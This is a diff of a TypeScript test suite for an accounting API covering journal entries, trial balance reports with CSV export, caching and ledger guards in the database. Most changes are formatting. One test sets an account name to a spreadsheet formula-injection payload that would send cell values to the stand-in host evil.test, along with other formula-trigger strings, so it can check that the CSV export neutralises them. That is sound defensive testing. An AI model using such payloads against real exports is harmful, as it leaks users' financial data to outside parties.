@@ -65,7 +65,7 @@ describe('manual journal entries', () => {
   ])('refuses %s with 400 on the offending field, writing nothing', async (_, sides, field) => {
     const before = await platform.db.query('SELECT count(*)::int AS n FROM journal_entries');
     const lines = (sides as object[]).map((side, index) => ({ account_id: index % 2 === 0 ? accounts['1000'] : accounts['4000'], ...side }));
-    expectFieldError(await business.sandbox.post(JOURNALS, { date: '2026-03-02', lines }), field as string);
+    expectFieldError(await business.sandbox.post(JOURNALS, { date: '2026-03-02', lines }), field);
     expect(await platform.db.query('SELECT count(*)::int AS n FROM journal_entries')).toEqual(before);
   });
 
@@ -79,17 +79,55 @@ describe('manual journal entries', () => {
     const archived = await created<{ id: string }>(business.sandbox, '/api/v1/coa/accounts', { name: 'Old bank', type: 'asset', subtype: 'bank' });
     await business.sandbox.put(`/api/v1/coa/accounts/${archived.id}`, { archived: true });
     for (const accountId of ['01a1fd73-0000-7000-8000-000000000000', otherCash, archived.id]) {
-      expectFieldError(await business.sandbox.post(JOURNALS, { date: '2026-03-02', lines: [{ account_id: accountId, debit: '5' }, { account_id: accounts['4000'], credit: '5' }] }), 'lines.0.account_id');
+      expectFieldError(
+        await business.sandbox.post(JOURNALS, {
+          date: '2026-03-02',
+          lines: [
+            { account_id: accountId, debit: '5' },
+            { account_id: accounts['4000'], credit: '5' },
+          ],
+        }),
+        'lines.0.account_id',
+      );
     }
   });
 
   it('refuses the Accounts Receivable control account (it moves only with invoices and payments)', async () => {
-    expectFieldError(await business.sandbox.post(JOURNALS, { date: '2026-03-02', lines: [{ account_id: accounts['1000'], debit: '5' }, { account_id: accounts['1100'], credit: '5' }] }), 'lines.1.account_id');
+    expectFieldError(
+      await business.sandbox.post(JOURNALS, {
+        date: '2026-03-02',
+        lines: [
+          { account_id: accounts['1000'], debit: '5' },
+          { account_id: accounts['1100'], credit: '5' },
+        ],
+      }),
+      'lines.1.account_id',
+    );
   });
 
   it('a foreign-currency entry needs an exchange rate and posts base amounts, rounding residue to Rounding', async () => {
-    expectFieldError(await business.sandbox.post(JOURNALS, { date: '2026-03-03', currency: 'EUR', lines: [{ account_id: accounts['1010'], debit: '1' }, { account_id: accounts['4100'], credit: '1' }] }), 'exchange_rate');
-    expectFieldError(await business.sandbox.post(JOURNALS, { date: '2026-03-03', exchange_rate: '2', lines: [{ account_id: accounts['1010'], debit: '1' }, { account_id: accounts['4100'], credit: '1' }] }), 'exchange_rate');
+    expectFieldError(
+      await business.sandbox.post(JOURNALS, {
+        date: '2026-03-03',
+        currency: 'EUR',
+        lines: [
+          { account_id: accounts['1010'], debit: '1' },
+          { account_id: accounts['4100'], credit: '1' },
+        ],
+      }),
+      'exchange_rate',
+    );
+    expectFieldError(
+      await business.sandbox.post(JOURNALS, {
+        date: '2026-03-03',
+        exchange_rate: '2',
+        lines: [
+          { account_id: accounts['1010'], debit: '1' },
+          { account_id: accounts['4100'], credit: '1' },
+        ],
+      }),
+      'exchange_rate',
+    );
     const entry = await created<Entry>(business.sandbox, JOURNALS, {
       date: '2026-03-03',
       currency: 'eur',
@@ -111,7 +149,13 @@ describe('manual journal entries', () => {
   });
 
   it('reverses a manual entry once; posted entries cannot be changed or deleted', async () => {
-    const entry = await created<Entry>(business.sandbox, JOURNALS, { date: '2026-04-01', lines: [{ account_id: accounts['6000'], debit: '75.50' }, { account_id: accounts['1000'], credit: '75.50' }] });
+    const entry = await created<Entry>(business.sandbox, JOURNALS, {
+      date: '2026-04-01',
+      lines: [
+        { account_id: accounts['6000'], debit: '75.50' },
+        { account_id: accounts['1000'], credit: '75.50' },
+      ],
+    });
     const expensesBefore = await balance(business, accounts['6000']);
     const reversal = await created<Entry>(business.sandbox, `${JOURNALS}/${entry.id}/reverse`, { date: '2026-04-05' });
     expect(reversal).toMatchObject({ date: '2026-04-05', reverses_id: entry.id, total: '75.50' });
@@ -136,8 +180,20 @@ describe('manual journal entries', () => {
   it('lists with filters by account, source type and dates, newest first', async () => {
     const fresh = await platform.createBusiness();
     const ids = await accountIds(fresh);
-    const march = await created<Entry>(fresh.sandbox, JOURNALS, { date: '2026-03-10', lines: [{ account_id: ids['1000'], debit: '1' }, { account_id: ids['4100'], credit: '1' }] });
-    const may = await created<Entry>(fresh.sandbox, JOURNALS, { date: '2026-05-10', lines: [{ account_id: ids['1010'], debit: '2' }, { account_id: ids['4100'], credit: '2' }] });
+    const march = await created<Entry>(fresh.sandbox, JOURNALS, {
+      date: '2026-03-10',
+      lines: [
+        { account_id: ids['1000'], debit: '1' },
+        { account_id: ids['4100'], credit: '1' },
+      ],
+    });
+    const may = await created<Entry>(fresh.sandbox, JOURNALS, {
+      date: '2026-05-10',
+      lines: [
+        { account_id: ids['1010'], debit: '2' },
+        { account_id: ids['4100'], credit: '2' },
+      ],
+    });
     const all = await fresh.sandbox.get(JOURNALS);
     expect(all.body.data.map((e: Entry) => e.id)).toEqual([may.id, march.id]);
     expect(all.body.pagination).toMatchObject({ total: 2, page: 1 });
@@ -156,8 +212,20 @@ describe('trial balance', () => {
   it('nets to zero, reads as of a date, and comes as CSV', async () => {
     const business = await platform.createBusiness({ baseCurrency: 'KWD' });
     const ids = await accountIds(business);
-    await created(business.sandbox, JOURNALS, { date: '2026-01-15', lines: [{ account_id: ids['1010'], debit: '500.125' }, { account_id: ids['3000'], credit: '500.125' }] });
-    await created(business.sandbox, JOURNALS, { date: '2026-02-15', lines: [{ account_id: ids['6000'], debit: '20' }, { account_id: ids['1010'], credit: '20' }] });
+    await created(business.sandbox, JOURNALS, {
+      date: '2026-01-15',
+      lines: [
+        { account_id: ids['1010'], debit: '500.125' },
+        { account_id: ids['3000'], credit: '500.125' },
+      ],
+    });
+    await created(business.sandbox, JOURNALS, {
+      date: '2026-02-15',
+      lines: [
+        { account_id: ids['6000'], debit: '20' },
+        { account_id: ids['1010'], credit: '20' },
+      ],
+    });
 
     const now = await business.sandbox.get('/api/v1/reports/trial-balance');
     expect(now.status).toBe(200);
@@ -172,11 +240,16 @@ describe('trial balance', () => {
       ['1010', '500.125', '0.000'],
       ['3000', '0.000', '500.125'],
     ]);
-    expect((await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2025-12-31')).body.data).toMatchObject({ rows: [], totals: { debit: '0.000', credit: '0.000' } });
+    expect((await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2025-12-31')).body.data).toMatchObject({
+      rows: [],
+      totals: { debit: '0.000', credit: '0.000' },
+    });
 
     const csv = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31', { headers: { accept: 'text/csv' } });
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
-    expect(csv.text).toBe(`account_id,code,name,type,debit,credit\r\n${ids['1010']},1010,Bank,asset,500.125,0.000\r\n${ids['3000']},3000,Owner's Equity,equity,0.000,500.125\r\n,,Total,,500.125,500.125\r\n`);
+    expect(csv.text).toBe(
+      `account_id,code,name,type,debit,credit\r\n${ids['1010']},1010,Bank,asset,500.125,0.000\r\n${ids['3000']},3000,Owner's Equity,equity,0.000,500.125\r\n,,Total,,500.125,500.125\r\n`,
+    );
     expectFieldError(await business.sandbox.get('/api/v1/reports/trial-balance?as_of=yesterday'), 'as_of');
   });
 
@@ -184,11 +257,29 @@ describe('trial balance', () => {
     const business = await platform.createBusiness();
     const ids = await accountIds(business);
     const formula = '=HYPERLINK("https://evil.test/?leak="&E2&E3,"Cash")';
-    for (const [code, name] of [['1000', formula], ['3000', '-Owner'], ['6000', '@SUM(A1)'], ['7000', '+1']]) {
+    for (const [code, name] of [
+      ['1000', formula],
+      ['3000', '-Owner'],
+      ['6000', '@SUM(A1)'],
+      ['7000', '+1'],
+    ]) {
       expect((await business.sandbox.put(`/api/v1/coa/accounts/${ids[code]}`, { name })).status).toBe(200);
     }
-    await created(business.sandbox, JOURNALS, { date: '2026-01-10', lines: [{ account_id: ids['1000'], debit: '12.50' }, { account_id: ids['3000'], credit: '12.50' }] });
-    await created(business.sandbox, JOURNALS, { date: '2026-01-11', lines: [{ account_id: ids['6000'], debit: '1' }, { account_id: ids['7000'], debit: '1' }, { account_id: ids['4100'], credit: '2' }] });
+    await created(business.sandbox, JOURNALS, {
+      date: '2026-01-10',
+      lines: [
+        { account_id: ids['1000'], debit: '12.50' },
+        { account_id: ids['3000'], credit: '12.50' },
+      ],
+    });
+    await created(business.sandbox, JOURNALS, {
+      date: '2026-01-11',
+      lines: [
+        { account_id: ids['6000'], debit: '1' },
+        { account_id: ids['7000'], debit: '1' },
+        { account_id: ids['4100'], credit: '2' },
+      ],
+    });
     // (Names are trimmed, so one cannot start with a tab or a line break: the unit spec covers those.)
 
     const csv = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31', { headers: { accept: 'text/csv' } });
@@ -208,9 +299,16 @@ describe('trial balance', () => {
   it('is answered again from the read cache until the business records an event: a posting or an account change shows at once', async () => {
     const business = await platform.createBusiness();
     const ids = await accountIds(business);
-    await created(business.sandbox, JOURNALS, { date: '2026-01-15', lines: [{ account_id: ids['1010'], debit: '5' }, { account_id: ids['3000'], credit: '5' }] });
+    await created(business.sandbox, JOURNALS, {
+      date: '2026-01-15',
+      lines: [
+        { account_id: ids['1010'], debit: '5' },
+        { account_id: ids['3000'], credit: '5' },
+      ],
+    });
     const report = () => business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-12-31');
-    const rows = async () => (await report()).body.data.rows.map((r: { code: string; name: string; debit: string; credit: string }) => [r.code, r.name, r.debit, r.credit]);
+    const rows = async () =>
+      (await report()).body.data.rows.map((r: { code: string; name: string; debit: string; credit: string }) => [r.code, r.name, r.debit, r.credit]);
     expect(await rows()).toEqual([
       ['1010', 'Bank', '5.00', '0.00'],
       ['3000', "Owner's Equity", '0.00', '5.00'],
@@ -224,7 +322,13 @@ describe('trial balance', () => {
       ['1010', 'Bank (SQL)', '5.00', '0.00'],
       ['3000', 'Capital', '0.00', '5.00'],
     ]);
-    await created(business.sandbox, JOURNALS, { date: '2026-02-15', lines: [{ account_id: ids['6000'], debit: '2' }, { account_id: ids['1010'], credit: '2' }] });
+    await created(business.sandbox, JOURNALS, {
+      date: '2026-02-15',
+      lines: [
+        { account_id: ids['6000'], debit: '2' },
+        { account_id: ids['1010'], credit: '2' },
+      ],
+    });
     expect(await rows()).toEqual([
       ['1010', 'Bank (SQL)', '3.00', '0.00'],
       ['3000', 'Capital', '0.00', '5.00'],
@@ -238,7 +342,13 @@ describe('events', () => {
     const business = await platform.createBusiness();
     const ids = await accountIds(business);
     const account = await created<{ id: string }>(business.sandbox, '/api/v1/coa/sales/account', { name: 'Events sales' });
-    const entry = await created<Entry>(business.sandbox, JOURNALS, { date: '2026-06-01', lines: [{ account_id: ids['1000'], debit: '3' }, { account_id: account.id, credit: '3' }] });
+    const entry = await created<Entry>(business.sandbox, JOURNALS, {
+      date: '2026-06-01',
+      lines: [
+        { account_id: ids['1000'], debit: '3' },
+        { account_id: account.id, credit: '3' },
+      ],
+    });
     await created(business.sandbox, `${JOURNALS}/${entry.id}/reverse`, {});
 
     const all = await business.sandbox.get('/api/v1/events?limit=100');
@@ -268,7 +378,10 @@ describe('PUT /api/v1/business', () => {
 
     expect((await business.sandbox.put('/api/v1/business', { lock_date: '2026-06-30' })).body.data.lock_date).toBe('2026-06-30');
     expect((await business.production.get('/api/v1/business')).body.data.lock_date).toBeNull();
-    const lines = [{ account_id: ids['1000'], debit: '1' }, { account_id: ids['4100'], credit: '1' }];
+    const lines = [
+      { account_id: ids['1000'], debit: '1' },
+      { account_id: ids['4100'], credit: '1' },
+    ];
     expectFieldError(await business.sandbox.post(JOURNALS, { date: '2026-06-30', lines }), 'date');
     const entry = await created<Entry>(business.sandbox, JOURNALS, { date: '2026-07-01', lines });
     expectFieldError(await business.sandbox.post(`${JOURNALS}/${entry.id}/reverse`, { date: '2026-06-01' }), 'date');
@@ -288,7 +401,13 @@ describe('the database itself guards the ledger', () => {
   beforeAll(async () => {
     business = await platform.createBusiness();
     ids = await accountIds(business);
-    entry = await created<Entry>(business.sandbox, JOURNALS, { date: '2026-08-01', lines: [{ account_id: ids['1000'], debit: '10' }, { account_id: ids['4100'], credit: '10' }] });
+    entry = await created<Entry>(business.sandbox, JOURNALS, {
+      date: '2026-08-01',
+      lines: [
+        { account_id: ids['1000'], debit: '10' },
+        { account_id: ids['4100'], credit: '10' },
+      ],
+    });
   });
 
   async function rawEntry(lines: { accountId: string; debit: string; credit: string; date?: string }[]): Promise<void> {
@@ -307,7 +426,12 @@ describe('the database itself guards the ledger', () => {
   }
 
   it('refuses an unbalanced entry, even from raw SQL', async () => {
-    await expect(rawEntry([{ accountId: ids['1000'], debit: '5', credit: '0' }, { accountId: ids['4100'], debit: '0', credit: '4' }])).rejects.toThrow(/unbalanced/);
+    await expect(
+      rawEntry([
+        { accountId: ids['1000'], debit: '5', credit: '0' },
+        { accountId: ids['4100'], debit: '0', credit: '4' },
+      ]),
+    ).rejects.toThrow(/unbalanced/);
   });
 
   it('refuses an entry of one line, and one of no lines at all', async () => {
@@ -316,31 +440,53 @@ describe('the database itself guards the ledger', () => {
   });
 
   it('refuses to update or delete a posted line or entry', async () => {
-    await expect(platform.db.query('UPDATE journal_lines SET debit = 11, base_debit = 11 WHERE entry_id = $1 AND debit > 0', [entry.id])).rejects.toThrow(/not allowed/);
+    await expect(platform.db.query('UPDATE journal_lines SET debit = 11, base_debit = 11 WHERE entry_id = $1 AND debit > 0', [entry.id])).rejects.toThrow(
+      /not allowed/,
+    );
     await expect(platform.db.query('DELETE FROM journal_lines WHERE entry_id = $1', [entry.id])).rejects.toThrow(/not allowed/);
     await expect(platform.db.query('DELETE FROM journal_entries WHERE id = $1', [entry.id])).rejects.toThrow(/not allowed/);
   });
 
   it('refuses a line dated other than its entry', async () => {
-    await expect(rawEntry([{ accountId: ids['1000'], debit: '5', credit: '0' }, { accountId: ids['4100'], debit: '0', credit: '5', date: '2026-08-03' }])).rejects.toThrow(/foreign key/);
+    await expect(
+      rawEntry([
+        { accountId: ids['1000'], debit: '5', credit: '0' },
+        { accountId: ids['4100'], debit: '0', credit: '5', date: '2026-08-03' },
+      ]),
+    ).rejects.toThrow(/foreign key/);
   });
 
   it("refuses a line on another business's account", async () => {
     const other = await platform.createBusiness();
     const otherCash = (await accountIds(other))['1000'];
-    await expect(rawEntry([{ accountId: otherCash, debit: '5', credit: '0' }, { accountId: ids['4100'], debit: '0', credit: '5' }])).rejects.toThrow(/foreign key/);
+    await expect(
+      rawEntry([
+        { accountId: otherCash, debit: '5', credit: '0' },
+        { accountId: ids['4100'], debit: '0', credit: '5' },
+      ]),
+    ).rejects.toThrow(/foreign key/);
   });
 
   it('refuses a posting dated on or before the lock date, and postEntry reports it as the API does (400 on date)', async () => {
-    await platform.db.query("UPDATE business_environments SET lock_date = '2026-08-31' WHERE business_id = $1 AND environment = 'sandbox'", [business.businessId]);
+    await platform.db.query("UPDATE business_environments SET lock_date = '2026-08-31' WHERE business_id = $1 AND environment = 'sandbox'", [
+      business.businessId,
+    ]);
     const lines = [
       { accountId: ids['1000'], debit: new Decimal(1), credit: new Decimal(0), baseDebit: new Decimal(1), baseCredit: new Decimal(0) },
       { accountId: ids['4100'], debit: new Decimal(0), credit: new Decimal(1), baseDebit: new Decimal(0), baseCredit: new Decimal(1) },
     ];
     const posting = { date: '2026-08-31', memo: null, currency: 'USD', exchangeRate: new Decimal(1), sourceType: 'manual' as const, sourceId: null, lines };
     const scope = { businessId: business.businessId, environment: 'sandbox' as const };
-    await expect(platform.db.transaction((tx) => postEntry(tx, scope, posting))).rejects.toMatchObject({ code: 'validation_failed', errors: [{ field: 'date' }] });
-    await expect(rawEntry([{ accountId: ids['1000'], debit: '5', credit: '0' }, { accountId: ids['4100'], debit: '0', credit: '5' }])).rejects.toThrow(/lock date/);
+    await expect(platform.db.transaction((tx) => postEntry(tx, scope, posting))).rejects.toMatchObject({
+      code: 'validation_failed',
+      errors: [{ field: 'date' }],
+    });
+    await expect(
+      rawEntry([
+        { accountId: ids['1000'], debit: '5', credit: '0' },
+        { accountId: ids['4100'], debit: '0', credit: '5' },
+      ]),
+    ).rejects.toThrow(/lock date/);
     await platform.db.query("UPDATE business_environments SET lock_date = NULL WHERE business_id = $1 AND environment = 'sandbox'", [business.businessId]);
   });
 
